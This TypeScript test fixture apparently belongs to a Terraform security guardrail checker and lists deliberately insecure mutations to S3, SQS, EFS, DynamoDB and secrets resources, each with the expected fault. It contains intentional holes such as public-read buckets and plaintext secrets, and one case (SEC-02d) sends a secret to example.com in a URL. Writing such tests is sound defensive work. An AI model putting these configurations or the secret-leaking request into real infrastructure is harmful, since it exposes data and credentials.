import type { Block, Draft, Mutations } from "../../support/guardrails";

const QUEUE = "arn:aws:sqs:us-east-1:111122223333:own";

const json = (...Statement: Block[]) => JSON.stringify({ Version: "2012-10-17", Statement });

/** Denies what comes without TLS. */
const tlsOnly = (Action: string, Resource: string | string[]) => ({
  Effect: "Deny",
  Principal: "*",
  Action,
  Resource,
  Condition: { Bool: { "aws:SecureTransport": "false" } },
});

/** Adds a queue as Karpenter has it. */
function queue(draft: Draft, change: Block = {}): void {
  draft.add("main-platform", "aws_sqs_queue", "own", {
    name: "own",
    sqs_managed_sse_enabled: true,
    message_retention_seconds: 300,
    policy: json(tlsOnly("sqs:*", QUEUE)),
    ...change,
  });
}

/** Adds a policy to a queue. */
function queuePolicy(draft: Draft, statement: Block): void {
  queue(draft, { policy: undefined });
  draft.add("main-platform", "aws_sqs_queue_policy", "own", {
    queue_url: "${aws_sqs_queue.own.url}",
    policy: json(tlsOnly("sqs:*", QUEUE), { Effect: "Allow", Resource: QUEUE, ...statement }),
  });
}

/** What a bucket has beside it when all is well, by type. */
function bucketParts(): Record<string, Block> {
  const own = "${aws_s3_bucket.own.id}";
  return {
    aws_s3_bucket_versioning: { bucket: own, versioning_configuration: { status: "Enabled" } },
    aws_s3_bucket_server_side_encryption_configuration: {
      bucket: own,
      rule: [
        {
          apply_server_side_encryption_by_default: {
            sse_algorithm: "aws:kms",
            kms_master_key_id: "${aws_kms_key.own.arn}",
          },
        },
      ],
    },
    aws_s3_bucket_public_access_block: {
      bucket: own,
      block_public_acls: true,
      block_public_policy: true,
      ignore_public_acls: true,
      restrict_public_buckets: true,
    },
    aws_s3_bucket_policy: { bucket: own, policy: json(tlsOnly("s3:*", ["arn:aws:s3:::own", "arn:aws:s3:::own/*"])) },
    aws_s3_bucket_lifecycle_configuration: {
      bucket: own,
      rule: [{ id: "own", status: "Enabled", abort_incomplete_multipart_upload: [{ days_after_initiation: 7 }] }],
    },
    aws_s3_bucket_logging: { bucket: own, target_bucket: "logs-of-the-account", target_prefix: "own/" },
  };
}

/** Adds a bucket with all that belongs to it, changed in one place. */
function bucket(draft: Draft, change: (parts: Record<string, Block>, own: Block) => void): void {
  const parts = bucketParts();
  const own: Block = { bucket: "own", lifecycle: { prevent_destroy: true } };
  change(parts, own);
  draft.add("network", "aws_s3_bucket", "own", own);
  for (const [type, block] of Object.entries(parts)) {
    draft.add("network", type, "own", block);
  }
}

function table(draft: Draft, change: Block): void {
  draft.add("data", "aws_dynamodb_table", "own", {
    name: "own",
    point_in_time_recovery: { enabled: true },
    server_side_encryption: { enabled: true, kms_key_arn: "${aws_kms_key.keys_file-systems_92996190.arn}" },
    ...change,
  });
}

/** Adds a secret that is rotated. */
function secret(draft: Draft, change: Block, rotation: Block | undefined = {}): void {
  draft.add("data", "aws_secretsmanager_secret", "own", {
    name: "own",
    kms_key_id: "${aws_kms_key.keys_secrets_80557511.arn}",
    ...change,
  });
  if (rotation) {
    draft.add("data", "aws_secretsmanager_secret_rotation", "own", {
      secret_id: "${aws_secretsmanager_secret.own.id}",
      rotation_rules: { automatically_after_days: 30 },
      ...rotation,
    });
  }
}

/** Changes that break the controls of queues, file systems, states and secrets. */
export const STORAGE_AND_SECRET_MUTATIONS: Mutations = {
  "SQS-01a": [
    {
      title: "adds a queue that is not encrypted",
      change: (draft) => queue(draft, { sqs_managed_sse_enabled: false }),
      fault: "is false; want true, or a key in kms_master_key_id",
    },
    {
      title: "says nothing of encryption",
      change: (draft) => queue(draft, { sqs_managed_sse_enabled: undefined }),
      fault: "is not set; want true, or a key in kms_master_key_id",
    },
  ],
  "SQS-01b": [
    {
      title: "lets everybody send",
      change: (draft) => queuePolicy(draft, { Principal: "*", Action: "sqs:SendMessage" }),
      fault: "is everybody; want principals by name, or a condition on the sender",
    },
    {
      title: "lets a role do everything with the queue",
      change: (draft) =>
        queuePolicy(draft, { Principal: { AWS: "arn:aws:iam::111122223333:role/own" }, Action: "sqs:*" }),
      fault: "is sqs:*; want the actions that are needed, such as sqs:SendMessage",
    },
  ],
  "SQS-01c": [
    {
      title: "leaves the policy out",
      change: (draft) => queue(draft, { policy: undefined }),
      fault: "does not deny what comes without TLS; want it to",
    },
  ],
  "SQS-01d": [
    {
      title: "keeps messages for four days without a dead letter queue",
      change: (draft) => queue(draft, { message_retention_seconds: undefined }),
      fault: "is not set; want a dead letter queue",
    },
  ],
  "EFS-01a": [
    {
      title: "leaves encryption out",
      change: (draft) => delete draft.one("aws_efs_file_system").encrypted,
      fault: "is not set; want true",
    },
  ],
  "EFS-01b": [
    {
      title: "takes AWS's key",
      change: (draft) => delete draft.one("aws_efs_file_system").kms_key_id,
      fault: "is not set; want a customer managed key",
    },
  ],
  "EFS-01c": [
    {
      title: "takes the file system out of the backup plan",
      change: (draft) => draft.remove("aws_backup_selection", "file-system-shared"),
      fault: "is in no backup plan; want one, or aws_efs_backup_policy",
    },
  ],
  "EFS-01d": [
    {
      title: "adds an access point on the root directory",
      change: (draft) =>
        draft.add("data", "aws_efs_access_point", "own", {
          file_system_id: "${aws_efs_file_system.file-system-shared.id}",
          root_directory: { path: "/" },
          posix_user: { uid: 1000, gid: 1000 },
        }),
      fault: 'is "/"; want a directory of its own',
    },
    {
      title: "adds an access point without a user",
      change: (draft) =>
        draft.add("data", "aws_efs_access_point", "own", {
          file_system_id: "${aws_efs_file_system.file-system-shared.id}",
          root_directory: { path: "/own" },
        }),
      fault: "is not set; want a user and a group",
    },
    {
      title: "mounts volumes without access points",
      change: (draft) => {
        draft.one("kubernetes_storage_class_v1", "shared").parameters.provisioningMode = "efs-dir";
      },
      fault: 'is "efs-dir"; want "efs-ap"',
    },
  ],
  "STA-01a": [
    {
      title: "keeps a state in S3 without a lock",
      change: (draft) => {
        draft.state("network").terraform.backend = { s3: { bucket: "states", key: "network", encrypt: true } };
      },
      fault: "is not set; want true",
    },
    {
      title: "keeps a state in S3 unencrypted",
      change: (draft) => {
        const s3 = { bucket: "states", key: "network", encrypt: false, use_lockfile: true };
        draft.state("network").terraform.backend = { s3 };
      },
      fault: "is false; want true",
    },
    {
      title: "names the bucket of a state by a reference",
      change: (draft) => {
        const s3 = { bucket: "${aws_s3_bucket.own.id}", key: "network", encrypt: true, use_lockfile: true };
        draft.state("network").terraform.backend = { s3 };
      },
      fault: "is ${aws_s3_bucket.own.id}; want it written out, since a backend takes no references",
    },
  ],
  "STA-01b": [
    {
      title: "suspends versions",
      change: (draft) =>
        bucket(draft, (parts) => {
          parts.aws_s3_bucket_versioning = { bucket: "own", versioning_configuration: { status: "Suspended" } };
        }),
      fault: 'is "Suspended"; want "Enabled"',
    },
    {
      title: "keeps no versions",
      change: (draft) => bucket(draft, (parts) => delete parts.aws_s3_bucket_versioning),
      fault: 'is not set; want "Enabled"',
    },
  ],
  "STA-01c": [
    {
      title: "leaves encryption to S3",
      change: (draft) => bucket(draft, (parts) => delete parts.aws_s3_bucket_server_side_encryption_configuration),
      fault: 'is not set; want "aws:kms" with a customer managed key',
    },
    {
      title: "takes AWS's key",
      change: (draft) =>
        bucket(draft, (parts) => {
          parts.aws_s3_bucket_server_side_encryption_configuration = {
            bucket: "${aws_s3_bucket.own.id}",
            rule: { apply_server_side_encryption_by_default: { sse_algorithm: "aws:kms" } },
          };
        }),
      fault: "is aws:kms with AWS's key; want a customer managed key",
    },
  ],
  "STA-01d": [
    {
      title: "lets public policies be set",
      change: (draft) =>
        bucket(draft, (parts) => {
          (parts.aws_s3_bucket_public_access_block ?? {}).block_public_policy = false;
        }),
      fault: "is false; want true",
    },
    {
      title: "shuts no way of being public off",
      change: (draft) => bucket(draft, (parts) => delete parts.aws_s3_bucket_public_access_block),
      fault: "has no aws_s3_bucket_public_access_block; want one with all four set",
    },
  ],
  "STA-01e": [
    {
      title: "has no policy",
      change: (draft) => bucket(draft, (parts) => delete parts.aws_s3_bucket_policy),
      fault: "does not deny what comes without TLS; want it to",
    },
  ],
  "STA-01f": [
    {
      title: "lets everybody read by a policy",
      change: (draft) =>
        bucket(draft, (parts) => {
          const read = { Effect: "Allow", Principal: "*", Action: "s3:GetObject", Resource: "arn:aws:s3:::own/*" };
          (parts.aws_s3_bucket_policy ?? {}).policy = json(tlsOnly("s3:*", "arn:aws:s3:::own/*"), read);
        }),
      fault: "is everybody; want principals by name, or a condition on whose they are",
    },
    {
      title: "shuts everybody out by a policy",
      change: (draft) =>
        bucket(draft, (parts) => {
          const out = { Effect: "Deny", Principal: "*", Action: "s3:*", Resource: "arn:aws:s3:::own/*" };
          (parts.aws_s3_bucket_policy ?? {}).policy = json(tlsOnly("s3:*", "arn:aws:s3:::own/*"), out);
        }),
      fault: "denies everybody everything; want a condition, since only the account's root could change it again",
    },
    {
      title: "lets everybody read by an ACL",
      change: (draft) =>
        bucket(draft, (parts) => {
          parts.aws_s3_bucket_acl = { bucket: "${aws_s3_bucket.own.id}", acl: "public-read" };
        }),
      fault: "lets in everybody; want no ACL",
    },
    {
      title: "switches ACLs on",
      change: (draft) =>
        bucket(draft, (parts) => {
          parts.aws_s3_bucket_ownership_controls = {
            bucket: "${aws_s3_bucket.own.id}",
            rule: { object_ownership: "ObjectWriter" },
          };
        }),
      fault: 'is "ObjectWriter"; want "BucketOwnerEnforced"',
    },
  ],
  "STA-01g": [
    {
      title: "has no lifecycle",
      change: (draft) => bucket(draft, (parts) => delete parts.aws_s3_bucket_lifecycle_configuration),
      fault: "has no rule for uploads that were left; want abort_incomplete_multipart_upload",
    },
  ],
  "STA-01h": [
    {
      title: "logs nobody",
      change: (draft) => bucket(draft, (parts) => delete parts.aws_s3_bucket_logging),
      fault: "is not set; want a bucket for access logs",
    },
  ],
  "STA-01i": [
    {
      title: "has a name in capitals",
      change: (draft) =>
        bucket(draft, (_, own) => {
          own.bucket = "Own";
        }),
      fault: 'is "Own"; want a bucket name: 3 to 63 lower-case letters, digits, dots and hyphens',
    },
    {
      title: "has a name with dots",
      change: (draft) =>
        bucket(draft, (_, own) => {
          own.bucket = "own.example.com";
        }),
      fault: 'is "own.example.com"; want a name without dots',
    },
  ],
  "STA-02a": [
    {
      title: "adds a table that cannot be brought back",
      change: (draft) => table(draft, { point_in_time_recovery: undefined }),
      fault: "is not set; want true",
    },
  ],
  "STA-02b": [
    {
      title: "adds a table with AWS's key",
      change: (draft) => table(draft, { server_side_encryption: { enabled: true } }),
      fault: "is not set; want a customer managed key, enabled",
    },
  ],
  "SEC-01a": [
    {
      title: "writes the keys of a provider out",
      change: (draft) => {
        draft.state("network").provider.aws[0].secret_key = "not-a-real-one";
      },
      fault: "is written out; want a role, or a reference to where it is kept",
      overlaps: ["NOD-20"],
    },
    {
      title: "writes the keys of a backend out",
      change: (draft) => {
        const s3 = {
          bucket: "states",
          key: "network",
          encrypt: true,
          use_lockfile: true,
          access_key: "not-a-real-one",
        };
        draft.state("network").terraform.backend = { s3 };
      },
      fault: "is written out; want a role, or a reference to where it is kept",
    },
    {
      title: "writes an access key into a description",
      change: (draft) => {
        const key = ["AKIA", "IOSFODNN7", "EXAMPLE"].join("");
        draft.one("aws_ssm_parameter", "anchor").description = `used with ${key}`;
      },
      fault: "is an access key of AWS; want it kept in Secrets Manager",
    },
    {
      title: "writes a Secret out",
      change: (draft) =>
        draft.add("main-workloads", "kubernetes_secret_v1", "own", {
          metadata: { name: "own", namespace: "shop" },
          data: { password: "not-a-real-one" },
        }),
      fault: "is written out; want it kept in Secrets Manager",
      overlaps: ["K8S-19a"],
    },
  ],
  "SEC-01b": [
    {
      title: "shows a password",
      change: (draft) => {
        draft.state("data").output.password = { value: "${random_password.own.result}" };
      },
      fault: "shows the secret of random_password.own; want it sensitive, or no output",
    },
  ],
  "SEC-01c": [
    {
      title: "keeps a made password in the state",
      change: (draft) => {
        secret(draft, {});
        draft.add("data", "aws_secretsmanager_secret_version", "own", {
          secret_id: "${aws_secretsmanager_secret.own.id}",
          secret_string: "${random_password.own.result}",
        });
      },
      fault: "keeps a secret in the state; want secret_string_wo",
    },
  ],
  "SEC-02a": [
    {
      title: "adds a secret with AWS's key",
      change: (draft) => secret(draft, { kms_key_id: undefined }),
      fault: "is not set; want a customer managed key",
    },
  ],
  "SEC-02b": [
    {
      title: "adds a secret that is never rotated",
      change: (draft) => {
        secret(draft, {});
        draft.remove("aws_secretsmanager_secret_rotation");
      },
      fault: "has no aws_secretsmanager_secret_rotation; want one",
    },
    {
      title: "rotates a secret once a year",
      change: (draft) => secret(draft, {}, { rotation_rules: { automatically_after_days: 365 } }),
      fault: "is rotated after 365 days; want at most 90",
    },
  ],
  "SEC-02c": [
    {
      title: "adds a secret parameter with AWS's key",
      change: (draft) =>
        draft.add("data", "aws_ssm_parameter", "own", { name: "/own", type: "SecureString", value_wo: "${var.own}" }),
      fault: 'is "SecureString" with AWS\'s key; want key_id',
    },
    {
      title: "puts a password into a plain parameter",
      change: (draft) =>
        draft.add("data", "aws_ssm_parameter", "own", {
          name: "/own",
          type: "String",
          value: "${random_password.own.result}",
        }),
      fault: 'is "String" with the secret of random_password.own; want "SecureString"',
    },
  ],
  "SEC-02d": [
    {
      title: "sends a secret to a web site",
      change: (draft) =>
        draft.addData("data", "http", "own", {
          url: "https://example.com/?q=${data.aws_secretsmanager_secret_version.own.secret_string}",
        }),
      fault: "sends the secret of aws_secretsmanager_secret_version.own; want a request without it",
    },
  ],
  "SEC-03a": [
    {
      title: "takes any version of a provider",
      change: (draft) => {
        draft.state("network").terraform.required_providers.aws.version = ">= 6.25";
      },
      fault: 'is ">= 6.25"; want an exact version or ~>',
    },
    {
      title: "leaves a provider's version out",
      change: (draft) => {
        draft.state("network").terraform.required_providers = {};
      },
      fault: "is not set; want an exact version or ~>",
    },
  ],
  "SEC-03b": [
    {
      title: "takes whatever stands on a branch",
      change: (draft) => {
        draft.state("network").module = { own: { source: "git::https://example.com/own.git?ref=main" } };
      },
      fault: "is git::https://example.com/own.git?ref=main, which moves; want a tag or a commit in ?ref=",
    },
    {
      title: "takes any version of a module",
      change: (draft) => {
        draft.state("network").module = { own: { source: "terraform-aws-modules/vpc/aws", version: "~> 6.0" } };
      },
      fault: 'is terraform-aws-modules/vpc/aws in the version "~> 6.0"; want an exact version',
    },
  ],
};
